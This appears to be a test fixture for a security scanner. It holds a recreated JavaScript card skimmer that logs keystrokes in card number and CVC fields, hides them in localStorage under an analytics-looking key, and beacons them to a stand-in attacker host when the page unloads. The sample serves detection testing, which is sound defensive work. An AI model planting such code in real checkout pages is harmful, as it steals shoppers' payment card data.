// expect: ES-SHOP-003
// Written for Ensuresec's tests from public descriptions of keylogging skimmers (Trustwave SpiderLabs and Sucuri on
// JavaScript keyloggers injected into Magento and WooCommerce checkouts): every keystroke typed in a card field is
// appended to a buffer kept in localStorage and flushed to the attacker with sendBeacon. Not the original code.
var buf = localStorage.getItem("_ga_buf") || "";
document.addEventListener("keyup", function (e) {
  var t = e.target;
  if (t && (t.name === "cardnumber" || t.id === "card-number" || t.name === "cvc")) {
    buf += t.name + ":" + e.key + ";";
    localStorage.setItem("_ga_buf", buf);
  }
});
window.addEventListener("beforeunload", function () { navigator.sendBeacon("https://stats.ga-cdn.example/k", buf); });
